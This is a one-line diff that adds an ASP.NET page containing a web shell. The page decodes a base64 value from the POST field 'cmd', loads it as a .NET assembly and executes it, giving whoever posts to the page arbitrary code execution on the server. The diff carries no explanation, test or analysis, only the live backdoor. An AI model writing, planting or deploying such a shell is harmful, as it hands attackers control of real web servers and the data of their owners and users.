@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><% System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["cmd"])).CreateInstance("P").Equals(this); %>
